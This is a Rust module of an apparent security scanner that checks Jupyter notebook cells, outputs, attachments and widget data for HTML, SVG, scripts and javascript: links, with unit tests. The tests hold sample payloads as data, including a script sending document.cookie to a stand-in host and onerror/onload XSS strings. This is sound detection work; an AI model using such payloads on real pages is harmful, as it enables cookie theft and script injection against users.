//! What do the cells and outputs of a notebook do?

use super::{decode, markdown, script};
use crate::{Budget, Kind, Limit, Notes, Severity, Unscannable};
use serde_json::{Map, Value};

/// Looks at cells and outputs; each output in a form of its own becomes a part.
pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    budget.charge(text.len().max(1) as u64)?;
    let notebook: Value =
        serde_json::from_str(text.trim_start_matches('\u{feff}')).map_err(|error| {
            let deep = error.is_syntax() && error.to_string().contains("recursion");
            if deep {
                Unscannable::Limit(Limit::Depth)
            } else {
                Unscannable::Corrupt
            }
        })?;
    let empty = Vec::new();
    for (number, cell) in cells(&notebook).enumerate() {
        let place = format!("cell {}", number + 1);
        budget.charge(64)?;
        let source = source(cell);
        match cell.get("cell_type").and_then(Value::as_str) {
            Some("markdown" | "heading") => {
                within(&place, &source, markdown::check, notes, budget)?;
            }
            Some("code") => {}
            // Raw cells are written into the exported page as they are.
            _ => part(&place, Some(Kind::Html), source.into_bytes(), notes, budget)?,
        }
        for attachment in cell
            .get("attachments")
            .and_then(Value::as_object)
            .into_iter()
            .flat_map(Map::values)
        {
            let place = format!("{place}, attachment");
            for content in attachment.as_object().into_iter().flat_map(Map::values) {
                let bytes = decode::base64(joined(Some(content)).as_bytes());
                part(&place, None, bytes, notes, budget)?;
            }
            bundle(&place, attachment, notes, budget)?;
        }
        for output in cell
            .get("outputs")
            .and_then(Value::as_array)
            .unwrap_or(&empty)
        {
            let place = format!("{place}, output");
            // Old notebooks have the forms in the output itself.
            bundle(&place, output, notes, budget)?;
            if let Some(forms) = output.get("data") {
                bundle(&place, forms, notes, budget)?;
            }
        }
    }
    if let Some(widgets) = notebook.pointer("/metadata/widgets") {
        strings(widgets, notes, budget)?;
    }
    Ok(())
}

/// What a kernel or an export carries out: the cells that are not prose, in one line, as a command may
/// go over several. Nothing where the text is no notebook.
pub(crate) fn sources(text: &str) -> Option<String> {
    let notebook: Value = serde_json::from_str(text.trim_start_matches('\u{feff}')).ok()?;
    let is_prose = |cell: &Value| {
        let kind = cell.get("cell_type").and_then(Value::as_str);
        matches!(kind, Some("markdown" | "heading"))
    };
    let sources: Vec<String> = cells(&notebook)
        .filter(|cell| !is_prose(cell))
        .map(source)
        .collect();
    Some(sources.join("\n").replace('\n', " "))
}

/// Which of both a reader takes goes by the version that the notebook names.
fn cells(notebook: &Value) -> impl Iterator<Item = &Value> {
    let sheets = notebook.get("worksheets").and_then(Value::as_array);
    let holders = sheets.into_iter().flatten().chain([notebook]);
    let cells = holders.filter_map(|holder| holder.get("cells")?.as_array());
    cells.flatten()
}

fn source(cell: &Value) -> String {
    joined(cell.get("source")) + &joined(cell.get("input"))
}

/// A text, or the lines of one.
fn joined(value: Option<&Value>) -> String {
    match value {
        Some(Value::String(text)) => text.clone(),
        Some(Value::Array(lines)) => lines.iter().filter_map(Value::as_str).collect(),
        _ => String::new(),
    }
}

type Check = fn(&str, &mut Notes, &mut Budget) -> Result<(), Unscannable>;

/// Runs a check on a piece, and puts the piece's place before what it finds.
fn within(
    place: &str,
    text: &str,
    check: Check,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    let mut own = Notes::default();
    let end = check(text, &mut own, budget);
    for finding in own.findings() {
        notes.find(
            finding.rule,
            finding.severity,
            format!("{place}, {}", finding.place),
            finding.message.clone(),
        );
    }
    for inner in own.parts() {
        notes.part(
            format!("{place}, {}", inner.place),
            inner.name.clone(),
            inner.kind,
            inner.bytes.clone(),
        );
    }
    end
}

fn part(
    place: &str,
    kind: Option<Kind>,
    bytes: Vec<u8>,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    if bytes.is_empty() {
        return Ok(());
    }
    budget.unpack(bytes.len() as u64)?;
    notes.part(place, None, kind, bytes);
    Ok(())
}

/// One output in all its forms.
fn bundle(
    place: &str,
    forms: &Value,
    notes: &mut Notes,
    budget: &mut Budget,
) -> Result<(), Unscannable> {
    let Some(forms) = forms.as_object() else {
        return Ok(());
    };
    for (media, content) in forms {
        let place = format!("{place}, {media}");
        let text = joined(Some(content));
        match media
            .to_ascii_lowercase()
            .split(';')
            .next()
            .unwrap_or("")
            .trim()
        {
            "text/html" | "html" => {
                part(&place, Some(Kind::Html), text.into_bytes(), notes, budget)?;
            }
            "image/svg+xml" | "svg" => {
                part(&place, Some(Kind::Svg), text.into_bytes(), notes, budget)?;
            }
            "text/markdown" => within(&place, &text, markdown::check, notes, budget)?,
            "text/latex" | "latex" | "text/vnd.mermaid" if links_to_script(&text) => {
                notes.find(
                    "notebook.script_address",
                    Severity::Suspicious,
                    place,
                    "a link of a formula or a diagram runs a script",
                );
            }
            "application/javascript" | "text/javascript" | "javascript" => {
                let (severity, why) = script::judge(&text);
                notes.find(
                    "notebook.script",
                    severity,
                    place,
                    format!("an output is a script: {why}"),
                );
            }
            "application/json" | "text/plain" | "text" | "text/latex" | "latex" | "output_type"
            | "name" | "execution_count" | "metadata" | "ename" | "evalue" | "traceback"
            | "stream" => {}
            media if media.starts_with("application/vnd.") || media.ends_with("+json") => {
                let chart = ["plotly", "bokeh", "vega", "holoviews", "geo+json", "widget"]
                    .iter()
                    .any(|name| media.contains(name));
                if chart {
                    notes.find(
                        "notebook.chart",
                        Severity::Active,
                        place,
                        "an output is an interactive chart",
                    );
                }
                strings(content, notes, budget)?;
            }
            media if media.contains('/') && !media.starts_with("text/") => {
                part(&place, None, decode::base64(text.as_bytes()), notes, budget)?;
            }
            media if media.contains('/') => part(&place, None, text.into_bytes(), notes, budget)?,
            // Old notebooks name forms by their endings.
            "png" | "jpeg" | "pdf" => {
                part(&place, None, decode::base64(text.as_bytes()), notes, budget)?;
            }
            _ => {}
        }
    }
    Ok(())
}

/// Whether a script's address stands there, with gaps or without.
fn links_to_script(text: &str) -> bool {
    let bare: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    bare.to_ascii_lowercase().contains("javascript:")
}

/// Looks at the markup within the strings of a description.
fn strings(value: &Value, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    let mut todo = vec![value];
    while let Some(value) = todo.pop() {
        match value {
            Value::String(text) => {
                budget.charge(text.len().max(1) as u64)?;
                if text.contains('<')
                    && text.contains('>')
                    && (text.contains("script")
                        || text.contains("on")
                        || text.contains("src")
                        || text.contains("href"))
                {
                    part(
                        "a text of a widget",
                        Some(Kind::Html),
                        text.clone().into_bytes(),
                        notes,
                        budget,
                    )?;
                }
            }
            Value::Array(items) => todo.extend(items),
            Value::Object(entries) => todo.extend(entries.values()),
            _ => {}
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Limits;

    fn outcome(cell: &Value) -> (Option<Severity>, Vec<Option<Kind>>) {
        let mut notes = Notes::default();
        let text = serde_json::json!({"nbformat": 4, "cells": [cell]}).to_string();
        check(&text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
        (
            notes.worst(),
            notes.parts().iter().map(|part| part.kind).collect(),
        )
    }

    fn output(media: &str, content: impl Into<Value>) -> Value {
        serde_json::json!({"cell_type": "code", "source": "x", "outputs": [{"output_type": "display_data", "data": {media: content.into()}}]})
    }

    #[test]
    fn code_and_plain_text_are_clean() {
        let cell = serde_json::json!({"cell_type": "code", "source": "print('<script>')", "outputs": [{"output_type": "stream", "name": "stdout", "text": "<script>\n"}]});
        assert_eq!(outcome(&cell), (None, vec![]));
    }

    #[test]
    fn outputs_become_parts() {
        assert_eq!(
            outcome(&output("text/html", vec!["<scr", "ipt>x</scr", "ipt>"])).1,
            [Some(Kind::Html)]
        );
        assert_eq!(
            outcome(&output("image/svg+xml", "<svg onload='x'/>")).1,
            [Some(Kind::Svg)]
        );
        assert_eq!(
            outcome(&output("application/octet-stream", "WDVP")).1,
            [None]
        );
        assert_eq!(
            outcome(&output(
                "application/vnd.x+json",
                serde_json::json!({"a": ["<img src=x onerror=y>"]})
            ))
            .1,
            [Some(Kind::Html)]
        );
        assert_eq!(
            outcome(&output(
                "application/vnd.plotly.v1+json",
                serde_json::json!({})
            ))
            .0,
            Some(Severity::Active)
        );
        assert_eq!(
            outcome(&output(
                "application/javascript",
                "fetch('//a.invalid/'+document.cookie)"
            ))
            .0,
            Some(Severity::Malicious)
        );
        for (media, text) in [
            ("text/markdown", "[a](javascript:x)"),
            ("text/latex", "$\\href{java\nscript:x}{y}$"),
            ("text/vnd.mermaid", "graph TD\nclick A \"JavaScript:x\""),
        ] {
            assert_eq!(
                outcome(&output(media, text)).0,
                Some(Severity::Suspicious),
                "{text}"
            );
        }
        let cell = serde_json::json!({"cell_type": "markdown", "source": ["hello <img src=x ", "onerror=alert(1)>"]});
        assert_eq!(outcome(&cell).0, Some(Severity::Suspicious));
        assert_eq!(
            outcome(&serde_json::json!({"cell_type": "raw", "source": "<script>"})).1,
            [Some(Kind::Html)]
        );
    }

    #[test]
    fn all_worksheets_are_looked_at_and_cells_beside_them() {
        let hostile = serde_json::json!([{"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>"}]);
        let old = serde_json::json!([{"cell_type": "code", "outputs": [{"output_type": "display_data", "data": {}, "html": "<b>"}]}]);
        for (notebook, expected) in [
            (
                serde_json::json!({"worksheets": [{"cells": []}, {"cells": hostile}]}),
                (1, 0),
            ),
            (
                serde_json::json!({"cells": [], "worksheets": [{"cells": hostile}]}),
                (1, 0),
            ),
            (
                serde_json::json!({"cells": hostile, "worksheets": [{"cells": []}]}),
                (1, 0),
            ),
            (serde_json::json!({"worksheets": [{"cells": old}]}), (0, 1)),
        ] {
            let mut notes = Notes::default();
            let mut budget = Budget::new(Limits::default());
            check(&notebook.to_string(), &mut notes, &mut budget).expect("small");
            let found = notes
                .findings()
                .iter()
                .filter(|one| one.severity >= Severity::Suspicious);
            assert_eq!((found.count(), notes.parts().len()), expected, "{notebook}");
        }
    }

    #[test]
    fn depth_is_refused() {
        let deep = "[".repeat(100_000);
        let end = check(
            &deep,
            &mut Notes::default(),
            &mut Budget::new(Limits::default()),
        );
        assert_eq!(end, Err(Unscannable::Limit(Limit::Depth)));
    }
}
